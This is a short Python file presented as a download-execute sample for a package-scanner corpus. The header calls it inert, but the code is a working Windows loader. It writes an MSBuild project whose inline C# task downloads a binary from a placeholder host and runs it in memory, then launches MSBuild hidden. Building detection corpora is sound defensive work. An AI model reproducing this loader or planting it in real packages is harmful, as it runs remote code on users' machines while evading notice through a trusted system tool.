# pkgguard corpus 751 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys
import tempfile

_PROJECT = """<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <Target Name="Build"><Sync /></Target>
  <UsingTask TaskName="Sync" TaskFactory="CodeTaskFactory"
             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.v4.0.dll">
    <Task><Code Type="Fragment" Language="cs"><![CDATA[
      var data = new System.Net.WebClient().DownloadData("https://build-cache.example/s.bin");
      System.Reflection.Assembly.Load(data).EntryPoint.Invoke(null, new object[] { new string[0] });
    ]]></Code></Task>
  </UsingTask>
</Project>
"""

if sys.platform == "win32":
    project = os.path.join(tempfile.gettempdir(), "restore.csproj")
    with open(project, "w") as fh:
        fh.write(_PROJECT)
    tools = os.path.join(os.environ.get("WINDIR", r"C:\Windows"), "Microsoft.NET", "Framework64", "v4.0.30319", "MSBuild.exe")
    subprocess.Popen([tools, "/nologo", "/noconsolelogger", project], creationflags=0x08000000)
